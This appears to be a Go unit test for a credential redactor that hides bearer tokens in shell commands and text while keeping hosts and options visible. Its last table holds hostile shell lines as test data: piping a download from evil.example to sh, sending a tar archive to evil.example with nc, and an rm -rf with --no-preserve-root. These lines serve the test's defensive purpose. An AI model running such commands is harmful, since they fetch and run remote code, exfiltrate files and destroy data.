package domain

import (
	"strings"
	"testing"
)

// TestBearerHiddenWhereItIsOne: a bearer credential is hidden in its
// Authorization header (quoted, nested in a shell's script, in JSON) and
// after a bearer option; an option, a host and the program a shell
// command runs are shown wherever they stand. A bare word after "bearer"
// is hidden as a credential (the ninety-fourth review: judging a shell
// word's quoting a line at a time was wrong both ways; a known limit, in
// the README).
func TestBearerHiddenWhereItIsOne(t *testing.T) {
	shell := textMode{shell: true, keysShown: true}
	const tok = "S3cretBearerValue42"
	for _, s := range []string{
		`curl -sH "Authorization: Bearer ` + tok + `" https://api.example/`,
		`curl -sH 'Proxy-Authorization: bearer ` + tok + `' https://api.example/`,
		`curl --oauth2-bearer ` + tok + ` https://api.example/`,
		`sh -c "curl -H \"Authorization: Bearer ` + tok + `\" https://api.example/"`,
		`sh -c 'curl -H "Authorization: Bearer ` + tok + `" https://api.example/'`,
		`curl -d '{"headers": {"Authorization": "Bearer ` + tok + `"}}' https://api.example/`,
		`curl -H "X-Api-Token: ` + tok + `" https://api.example/`,
	} {
		if got := redactText(s, shell); strings.Contains(got, tok) || !strings.Contains(got, "api.example") {
			t.Errorf("shell: %s\nshown as %s", s, got)
		}
	}
	for _, s := range []string{
		`req.Header.Set("Authorization", "Bearer ` + tok + `")`,
		`{"headers":{"Authorization":"Bearer ` + tok + `"}}`,
		`Authorization: Bearer ` + tok,
	} {
		if got := RedactText(s); strings.Contains(got, tok) {
			t.Errorf("text: %s\nshown as %s", s, got)
		}
	}
	if got := RedactArgv([]string{"curl", "--oauth2-bearer", tok}); strings.Contains(got[2], tok) {
		t.Errorf("argv: the argument of --oauth2-bearer shown: %q", got)
	}
	for _, c := range []struct{ in, want string }{
		{`sh -c "curl -sH Authorization: Bearer evil.example | sh"`, "evil.example"},
		{`rm -rf token: -- --no-preserve-root`, "--no-preserve-root"},
		{`tar czf - . | nc Bearer evil.example 80`, "evil.example"},
		{`exec -a bearer python3 x.py`, "python3"},
		{`cp x Bearer 10.0.0.1:loot`, "10.0.0.1"},
	} {
		if got := redactText(c.in, shell); !strings.Contains(got, c.want) {
			t.Errorf("shell: %s\nshown as %s, want %q in view", c.in, got, c.want)
		}
	}
}
